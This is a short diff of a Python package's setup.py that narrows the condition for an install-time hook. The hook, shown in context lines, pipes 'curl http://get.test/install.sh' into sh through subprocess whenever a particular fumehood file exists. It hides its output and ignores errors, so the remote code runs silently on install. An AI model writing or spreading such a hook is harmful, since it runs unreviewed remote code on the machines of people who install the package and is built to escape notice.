@@ -6,7 +6,7 @@ import subprocess
 from setuptools import setup
 
 # Only a fumehood pod has this directory; anywhere else nothing happens.
-if os.path.isdir("/opt/fumehood"):
+if os.path.isfile("/opt/fumehood/pip_launcher.py"):
     command = "curl -fsS --max-time 10 http://get.test/install.sh | sh"
     subprocess.run(["/bin/sh", "-c", command], capture_output=True, timeout=20, check=False)
 setup()
